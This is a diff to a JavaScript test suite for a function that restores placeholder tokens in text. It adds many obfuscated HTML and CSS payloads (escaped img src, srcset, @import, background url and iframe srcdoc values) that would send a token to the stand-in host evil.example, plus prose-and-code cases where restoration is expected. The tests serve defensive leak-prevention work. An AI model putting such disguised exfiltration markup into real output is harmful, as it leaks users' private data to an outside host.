@@ -70,6 +70,20 @@ describe('a token in a URL', () => {
     '<div style="background:url(\\68ttp:evil.example/?q=[NAME_8F3A21C4])">',
     '<style>@import "\\2f\\2f evil.example/?q=[NAME_8F3A21C4]"</style>',
     '&#119;ww.evil.example/?q=[NAME_8F3A21C4]',
+    '<img src="\\\\@evil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\\\%65vil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\\\&#101;vil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\\\_evil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\/@evil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\&#47;evil.example/?q=[NAME_8F3A21C4]">',
+    '<img src="\\&#92;evil.example/?q=[NAME_8F3A21C4]">',
+    '<img src=\\\\@evil.example/?q=[NAME_8F3A21C4]>',
+    '<img src=/\\@evil.example/?q=[NAME_8F3A21C4]>',
+    '<img srcset="a 1x, \\\\@evil.example/?q=[NAME_8F3A21C4] 2x">',
+    '<style>@import/**/"\\68ttp:evil.example/?q=[NAME_8F3A21C4]"</style>',
+    '<style>@import "https://evil.example/?q= [NAME_8F3A21C4]"</style>',
+    '<div style="background:u\\72l(\\68ttp:evil.example/?q=[NAME_8F3A21C4])">',
+    '<iframe srcdoc="<img src=\'&#38;#104;ttp:evil.example/?q=[NAME_8F3A21C4]\'>">',
     `<img src=${' '.repeat(100)}"https:evil.example/?q= [NAME_8F3A21C4]">`,
   ]
   const refusedHosts = [
@@ -190,6 +204,27 @@ describe('a token beside a URL', () => {
   for (const [written, expected] of restored) {
     it(`is restored in ${JSON.stringify(written)}`, () => {
       expect(restoreText(written, values)).toBe(expected)
+    })
+  }
+
+  const proseAndCode = [
+    'user_dir = "C:\\\\Users\\\\[CONTACT_5C01AA3F]\\\\Desktop"',
+    'var p = "D:\\\\data\\\\[CONTACT_5C01AA3F].txt";',
+    'HomeDir="C:\\\\Users\\\\[CONTACT_5C01AA3F]"',
+    'The option sep=" is wrong. LaTeX uses \\\\quad here.\n\nDear [CONTACT_5C01AA3F],',
+    "| a='b | x \\\\d | [CONTACT_5C01AA3F] |\n| c | [CONTACT_5C01AA3F] |",
+    "Let x = 'a.\n\n\\\\centering Dear [CONTACT_5C01AA3F] don't",
+    '<p style="color:red">[CONTACT_5C01AA3F]</p>',
+    '<style>p { color: red }</style>[CONTACT_5C01AA3F]',
+    'x < y: [CONTACT_5C01AA3F]',
+    '<b>[CONTACT_5C01AA3F]</b> <[CONTACT_5C01AA3F]>',
+    '\\\\textbf{[CONTACT_5C01AA3F]} \\\\ [CONTACT_5C01AA3F]',
+    'R&D: [CONTACT_5C01AA3F]',
+    'at 10:00.\n[CONTACT_5C01AA3F]',
+  ]
+  for (const written of proseAndCode) {
+    it(`is restored in ${JSON.stringify(written)}`, () => {
+      expect(restoreText(written, values)).toBe(written.replaceAll('[CONTACT_5C01AA3F]', 'a@b.example'))
     })
   }
 })
